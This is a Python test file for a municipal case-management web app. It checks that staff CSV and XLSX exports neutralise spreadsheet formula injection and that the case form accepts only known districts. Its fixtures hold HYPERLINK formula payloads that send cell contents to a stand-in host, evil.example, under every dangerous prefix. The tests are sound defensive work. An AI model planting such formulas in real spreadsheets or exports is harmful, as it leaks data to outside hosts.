"""F9: formula injection in staff exports, and the free-text district that fed it.

Every staff CSV/XLSX cell goes through the municipal export's escaping helper (importers.export.
escape_formula, via webapp.imports.exports.escape_cell): a value starting with =, +, -, @, tab or
CR gets a leading apostrophe, and in the workbook it is a string cell, never a formula. The case form
accepts only a known district, with a translated error beside the field and the value kept.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session

from tests.helpers import csrf_token, login
from webapp.accounts.models.user import Office
from webapp.cases.models import Person, Placement, PlacementEvent
from webapp.listings.demo import load_sample_city
from webapp.listings.models.place import District
from webapp.orm import utcnow

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
DANGEROUS = [f'{p}HYPERLINK("http://evil.example/?x="&A1,"click")' for p in PREFIXES]


def _unsafe(value: object) -> bool:
    return isinstance(value, str) and value.startswith(PREFIXES)


@pytest.fixture()
def poisoned(session: Session, make_user) -> list[str]:  # type: ignore[no-untyped-def]
    """Cases (as an old row or a direct write would hold them) whose district is a formula, each with an
    unmet need in this fiscal year; and a known district whose name is a formula."""
    load_sample_city(session)
    office = Office(name="所属F9")
    session.add(office)
    session.flush()
    when = utcnow() - timedelta(hours=1)
    for i, district in enumerate(DANGEROUS):
        p = Person(case_code=f"F9-{i}", office_id=office.id, field="other", district=district, interests=["go"],
                   created_at=when)  # fmt: skip
        session.add(p)
        session.flush()
        pl = Placement(person_id=p.id, stage="ended", outcome="no_suitable_activity", created_at=when, stage_changed_at=when)
        pl.events = [PlacementEvent(from_stage="", to_stage="ended", at=when)]
        session.add(pl)
    # A known district renamed to a formula: its name reaches unmet (by code) and coverage exports.
    code = session.scalar(select(District.code).where(District.kind != "city").order_by(District.code).limit(1))
    session.execute(update(District).where(District.code == code).values(name="=1+2"))
    p = Person(case_code="F9-known", office_id=office.id, field="other", district=code, interests=["go"], created_at=when)
    session.add(p)
    session.flush()
    pl = Placement(person_id=p.id, stage="ended", outcome="host_no_capacity", created_at=when, stage_changed_at=when)
    pl.events = [PlacementEvent(from_stage="", to_stage="ended", at=when)]
    session.add(pl)
    make_user("city@example.jp", "viewer")
    session.commit()
    return [*DANGEROUS, "=1+2"]


def _csv(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_every_csv_export_escapes_formulas(client: FlaskClient, poisoned: list[str]) -> None:
    login(client, "city@example.jp")
    for url in ("/staff/reports/unmet.csv", "/staff/reports/kpis.csv", "/staff/reports/coverage.csv"):
        r = client.get(url)
        assert r.status_code == 200, url
        cells = [c for row in _csv(r.get_data()) for c in row]
        assert not [c for c in cells if _unsafe(c)], url
    unmet = {c for row in _csv(client.get("/staff/reports/unmet.csv").get_data()) for c in row}
    for value in poisoned:
        assert "'" + value in unmet
    coverage = {c for row in _csv(client.get("/staff/reports/coverage.csv").get_data()) for c in row}
    assert "'=1+2" in coverage


def test_every_xlsx_export_has_string_cells_not_formulas(client: FlaskClient, poisoned: list[str]) -> None:
    login(client, "city@example.jp")
    seen: set[str] = set()
    for url in ("/staff/reports/kpis.xlsx", "/staff/reports/coverage.xlsx"):
        r = client.get(url)
        assert r.status_code == 200, url
        wb = load_workbook(io.BytesIO(r.get_data()))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (url, ws.title, cell.coordinate, cell.value)
                    assert not _unsafe(cell.value), (url, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s"
                        seen.add(cell.value)
    for value in poisoned:
        assert "'" + value.replace("\r", "\n") in seen  # XML reads a stored CR back as LF


def _new_case(client: FlaskClient, district: str, lang: str = "") -> tuple[int, str]:
    url = "/staff/cases/new" + (f"?lang={lang}" if lang else "")
    token = csrf_token(client, url)
    r = client.post(url, data={
        "csrf_token": token, "district": district, "age_band": "unknown", "field": "other",
        "referral_source": "other", "contact_preference": "phone", "what_matters": "散歩が好き",
    })  # fmt: skip
    return r.status_code, r.get_data(as_text=True)


@pytest.mark.parametrize("district", ["=HYPERLINK(\"http://evil.example\")", "地区" * 30, "x" * 51])
def test_case_form_accepts_only_known_districts(client: FlaskClient, session: Session, make_user, district: str) -> None:  # type: ignore[no-untyped-def]
    make_user("sup@example.jp", "supporter", office="所属F9")
    session.commit()
    login(client, "sup@example.jp")
    before = session.scalar(select(func.count()).select_from(Person))
    status, html = _new_case(client, district)
    assert status == 200
    error = re.search(r'<p class="field__error" id="district-error">([^<]*)</p>', html)
    assert error is not None and "地区は一覧から選んでください。" in error.group(1)
    from markupsafe import escape

    assert f'<option selected value="{escape(district)}">' in html  # what was sent is kept
    assert "散歩が好き" in html
    assert session.scalar(select(func.count()).select_from(Person)) == before
    status, html = _new_case(client, district, lang="en")
    assert status == 200 and "Choose the district from the list." in html
